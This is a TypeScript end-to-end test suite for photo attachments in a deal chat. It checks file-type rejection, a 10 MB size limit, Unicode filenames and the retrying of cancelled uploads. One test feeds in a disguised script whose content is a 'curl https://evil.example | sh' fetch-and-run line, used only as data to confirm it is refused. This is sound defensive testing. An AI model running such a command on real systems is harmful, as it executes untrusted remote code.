// Files in a deal's chat on the real backend: what is refused, what passes, what is stopped and tried again, whole names.
import * as assert from 'uvu/assert';
import { ALICE, BOB } from '../../scripts/demo/users.ts';
import { createScenes, type House, type Phone } from '../harness/browser/suite.ts';
import { begin, eventually } from './market-fixtures.ts';
import { type Attachment, attach, enter, listOf, messagesOf, PIXEL, press, sees } from './deal-user-actions.ts';

const { scene, run } = createScenes('files of a deal');

const MEGABYTE = 1024 * 1024;
/** A photo by its first bytes, as a camera writes them; the rest is noise that no proxy makes smaller. */
function photo(name: string, bytes: number): Attachment {
  const buffer = Buffer.alloc(bytes, 7);
  Buffer.from('FFD8FFE000104A46494600010100000100010000', 'hex').copy(buffer);
  return { name, mimeType: 'image/jpeg', buffer };
}
const picture = (name: string): Attachment => ({ name, mimeType: 'image/png', buffer: PIXEL });

async function enterBoth(house: House): Promise<{ alice: Phone; bob: Phone }> {
  const dealId = await begin(house, ALICE, BOB);
  const [alice, bob] = await Promise.all([enter(house, ALICE, dealId), enter(house, BOB, dealId)]);
  return { alice, bob };
}
const opener = ({ page }: Phone, name: string) => page.getByRole('button', { name: `Open photo ${name}` });

scene(
  'CHAT-02 a script under a picture’s name is refused, a photo of 10 MB passes, one byte more does not',
  async (house) => {
    const { alice, bob } = await enterBoth(house);
    const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');
    await attach(alice, 'Photo', { name: 'receipt.png', mimeType: 'image/png', buffer: script });
    await sees(alice, 'Only images and PDF files are supported.');
    await attach(alice, 'Photo', photo('too-large.jpg', 10 * MEGABYTE + 1));
    await sees(alice, 'The file is too large. At most 10 MB are allowed.');
    await attach(alice, 'Photo', photo('large.jpg', 10 * MEGABYTE));
    await messagesOf(alice, '')
      .getByRole('img', { name: /^(Sent|Read)$/ })
      .waitFor();
    await opener(bob, 'large.jpg').waitFor();
    assert.is(
      await listOf(bob)
        .getByRole('button', { name: /^Open photo/ })
        .count(),
      1,
      'and nothing else came',
    );
  },
);

scene('CHAT-02 CHAT-06 names in Cyrillic, Arabic and emoji come back whole', async (house) => {
  const dealId = await begin(house, ALICE, BOB);
  const alice = await enter(house, ALICE, dealId);
  const bob = await enter(house, BOB, dealId, { version: '7.0', platform: 'tdesktop' });
  for (const name of [
    'Чек об оплате № 7.png',
    'إيصال الدفع.png',
    '🧾💶 receipt 👍🏽.png',
    "it's 100% «ok» ; #1.png",
  ]) {
    await attach(alice, 'Photo', picture(name));
    await opener(bob, name).click();
    await bob.page.getByRole('dialog', { name, exact: true }).waitFor();
    const saving = bob.page.waitForEvent('download');
    await press(bob, 'Download');
    assert.is((await saving).suggestedFilename(), name);
    await press(bob, 'Close');
    await bob.page.getByRole('dialog').waitFor({ state: 'detached' });
  }
});

scene(
  'CHAT-02 CHAT-07 an upload that is stopped is sent again, once; a discarded one never',
  async (house) => {
    const { alice, bob } = await enterBoth(house);
    alice.problems.allow(/ERR_|\[WARN\]|Failed to load/);
    // Cut, so that an upload lasts as long as the test needs.
    alice.cutLine();
    await attach(alice, 'Photo', picture('first.png'));
    await press(alice, 'Cancel upload');
    const failed = messagesOf(alice, '').filter({
      has: alice.page.getByRole('button', { name: 'Send again' }),
    });
    await failed.waitFor();
    await attach(alice, 'Photo', picture('second.png'));
    await alice.page.getByRole('button', { name: 'Cancel upload' }).click();
    await eventually(alice.page, 'both have stopped', async () => (await failed.count()) === 2);
    await failed.last().getByRole('button', { name: 'Discard' }).click();
    await eventually(alice.page, 'one is left', async () => (await failed.count()) === 1);
    alice.restoreLine();
    await failed.getByRole('button', { name: 'Send again' }).click();
    await opener(bob, 'first.png').waitFor();
    await failed.waitFor({ state: 'detached' });
    await alice.page.reload();
    await opener(alice, 'first.png').waitFor();
    for (const phone of [alice, bob])
      assert.is(
        await listOf(phone)
          .getByRole('button', { name: /^Open photo/ })
          .count(),
        1,
      );
  },
);

run();
